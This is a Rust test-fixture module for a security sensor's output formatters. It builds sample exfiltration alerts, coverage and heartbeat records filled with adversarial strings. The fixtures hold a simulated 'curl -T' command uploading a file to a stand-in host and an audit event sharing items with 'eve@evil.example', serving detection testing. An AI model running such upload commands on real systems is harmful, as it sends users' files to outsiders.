//! Records with every field filled, as nasty as asked.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
use std::sync::Arc;

use cloudward::model::*;
use cloudward::sink::format::{self, Body, Sender};

pub const START: i64 = 1_782_031_000_123_456_789;

pub fn time(seconds: i64) -> Timestamp {
    Timestamp::from_nanos(START + seconds * 1_000_000_000)
}

pub fn process(pid: i32, path: FilePath, args: &[&str], flags: u32) -> Arc<ProcessEvidence> {
    let program = Program {
        path: path.clone(),
        path_truncated: false,
        signing_id: Some("com.example.tool".into()),
        team_id: Some("TEAMID1234".into()),
        cdhash: Some(CdHash([0xab; 20])),
        platform: false,
        flags: CodeSigning(flags),
    };
    let key = ProcessKey { pid: Pid(pid), version: 7 };
    let info = ProcessInfo {
        started: Some(time(-60)),
        has_tty: true,
        ..ProcessInfo::plain(key, Arc::new(program), Uid(501))
    };
    Arc::new(ProcessEvidence {
        info: Arc::new(info),
        args: args.iter().map(|arg| Box::from(*arg)).collect(),
        cwd: Some(path.clone()),
        script: Some(Script { path }),
        runs_other_code: false,
        older_than_sensor: true,
        invalidated: false,
    })
}

pub fn flow(v6: bool) -> FlowEvidence {
    let ip = |last| {
        if v6 {
            IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, last))
        } else {
            IpAddr::V4(Ipv4Addr::new(203, 0, 113, last as u8))
        }
    };
    let hello = ClientHello {
        version: 0x0304,
        alpn: vec!["h2".into()],
        ech: false,
        ja4: Some("t13d1516h2_8daaf6152771_e5627efa2ab1".into()),
    };
    FlowEvidence {
        transport: if v6 { Transport::Quic } else { Transport::Tcp },
        client: Endpoint { ip: ip(1), port: 50_000 },
        server: Endpoint { ip: ip(2), port: 443 },
        domain: DomainName::from_wire(b"corp.s3.eu-west-1.amazonaws.com"),
        source: Some(NameSource::TlsSni),
        disputed: None,
        unknown: None,
        hello: Some(Arc::new(hello)),
        bytes_out: 9_000,
        bytes_in: 70,
        start: time(1),
        end: time(2),
    }
}

/// Every text in it is `nasty`.
pub fn alert(nasty: &[u8], flags: u32) -> Alert {
    let path = FilePath::new(&[b"/Users/alice/", nasty].concat());
    let text = String::from_utf8_lossy(nasty).into_owned();
    let word: Arc<str> = Arc::from(text.as_str());
    let uploader = process(4711, path.clone(), &["curl", "-T", &text, "https://x.test/"], flags);
    let parent = process(4700, path.clone(), &[&text], flags);
    let rule = |id: &str, severity, techniques: &[&str]| RuleRef {
        id: id.into(),
        name: Arc::clone(&word),
        version: "1".into(),
        severity,
        techniques: techniques.iter().map(|id| Arc::from(*id)).collect(),
    };
    let read = |evidence| ReadEvidence {
        path: path.clone(),
        sets: vec![Arc::clone(&word), "documents".into()],
        time: time(0),
        process: Arc::clone(&parent),
        evidence,
    };
    let reason = |code| Reason { code, text: format!("curl read {path} and {text}") };
    Alert {
        time: time(2),
        id: AlertId([0x5a; 16]),
        revision: 2,
        count: 3,
        severity: Severity::Critical,
        confidence: Confidence::Medium,
        rules: vec![
            rule("cw.exfil.cloud-storage", Severity::High, &["T1567.002", "T1567"]),
            rule(&text, Severity::Low, &["T1572", "T9999.001"]),
        ],
        reasons: vec![reason(ReasonCode::SensitiveRead), reason(ReasonCode::Uploaded)],
        user: Some(Uid(501)),
        user_name: Some(Arc::clone(&word)),
        uploader: Actor::Process(uploader),
        reads: [Evidence::Open, Evidence::Argv, Evidence::Taint].into_iter().map(read).collect(),
        reads_omitted: 5,
        hops: vec![Hop {
            kind: HopKind::Rename,
            time: time(1),
            process: Arc::clone(&parent),
            path: Some(path),
        }],
        chain: vec![Arc::clone(&parent), parent],
        flows: vec![flow(false), flow(true)],
        audit: Vec::new(),
        service: Some(Arc::clone(&word)),
        category: Some("object-store".into()),
        tenant: Some(Arc::clone(&word)),
        tenant_verdict: TenantVerdict::Foreign,
        attribution: Attribution::Process,
        window: (time(0), time(2), Span::from_secs(900)),
        bytes_out: 18_000,
        bytes_in: 140,
        degraded: vec![CoverageKind::EventLoss],
        config_hash: "0123456789abcdef".into(),
    }
}

/// Known from an audit log alone; every text in it is `nasty`.
pub fn audited(nasty: &[u8]) -> Alert {
    let text = String::from_utf8_lossy(nasty).into_owned();
    let word: Arc<str> = Arc::from(text.as_str());
    let by = Arc::new(CloudAccount {
        log: AuditLog::Microsoft365,
        user: Some(format!("{text}@corp.example").into()),
        principal: Some(Arc::clone(&word)),
        account: Some(Arc::clone(&word)),
        address: Some("203.0.113.9".into()),
        agent: Some(Arc::clone(&word)),
    });
    let event = AuditEvent {
        time: time(2),
        record: Arc::clone(&word),
        operation: Arc::clone(&word),
        by: Arc::clone(&by),
        kind: CommandKind::Share,
        service: Arc::from("sharepoint"),
        with: vec![Arc::clone(&word), "eve@evil.example".into()],
        into: Some(Arc::clone(&word)),
        items: vec![Arc::clone(&word)],
    };
    let whole = alert(nasty, 0);
    Alert {
        reasons: vec![Reason { code: ReasonCode::ControlPlane, text: event.to_string() }],
        user: None,
        user_name: None,
        uploader: Actor::Account(by),
        reads: Vec::new(),
        reads_omitted: 0,
        hops: Vec::new(),
        chain: Vec::new(),
        flows: Vec::new(),
        audit: vec![Arc::new(event)],
        bytes_out: 0,
        bytes_in: 0,
        ..whole
    }
}

/// As little as an alert can have.
pub fn bare() -> Alert {
    Alert {
        revision: 1,
        rules: Vec::new(),
        reasons: Vec::new(),
        user_name: None,
        reads: Vec::new(),
        reads_omitted: 0,
        hops: Vec::new(),
        chain: Vec::new(),
        flows: Vec::new(),
        service: None,
        category: None,
        tenant: None,
        degraded: Vec::new(),
        ..alert(b"x", 0)
    }
}

pub fn coverage(nasty: &[u8]) -> Coverage {
    let text = String::from_utf8_lossy(nasty).into_owned();
    Coverage { kind: CoverageKind::EventLoss, start: time(0), end: time(60), count: 12, text }
}

/// Has no text of anybody else.
pub fn heartbeat() -> Heartbeat {
    Heartbeat {
        time: time(60),
        pulse: Pulse::Alive,
        since: time(0),
        sequence: 2,
        every: Some(Span::from_secs(300)),
        config_hash: "0123456789abcdef".into(),
        counters: vec![("events".into(), 12), ("outputs.siem.sent".into(), 3)],
        coverage: vec![(CoverageKind::EventLoss, 4)],
    }
}

/// An alert, the barest alert, a coverage record, a heartbeat, and an alert from an audit log.
pub fn all(nasty: &[u8]) -> [Record; 5] {
    let signed = CodeSigning::VALID | CodeSigning::SIGNED;
    [
        Record::Alert(Box::new(alert(nasty, signed))),
        Record::Alert(Box::new(bare())),
        Record::Coverage(coverage(nasty)),
        Record::Heartbeat(Box::new(heartbeat())),
        Record::Alert(Box::new(audited(nasty))),
    ]
}

pub type Writer = fn(&Record) -> String;

pub fn syslog(record: &Record, body: Body) -> String {
    let sender = Sender { hostname: Some("mac-01.example.org"), process: Some(42), ..Sender::default() };
    format::rfc5424(record, body, &sender) + "\n"
}

/// Everything that writes for machines, by name.
pub const MACHINES: [(&str, Writer); 8] = [
    ("ecs", format::ecs),
    ("ocsf", format::ocsf),
    ("cef", format::cef),
    ("leef", format::leef),
    ("rfc5424-ecs", |record| syslog(record, Body::Ecs)),
    ("rfc5424-ocsf", |record| syslog(record, Body::Ocsf)),
    ("rfc5424-cef", |record| syslog(record, Body::Cef)),
    ("rfc5424-leef", |record| syslog(record, Body::Leef)),
];
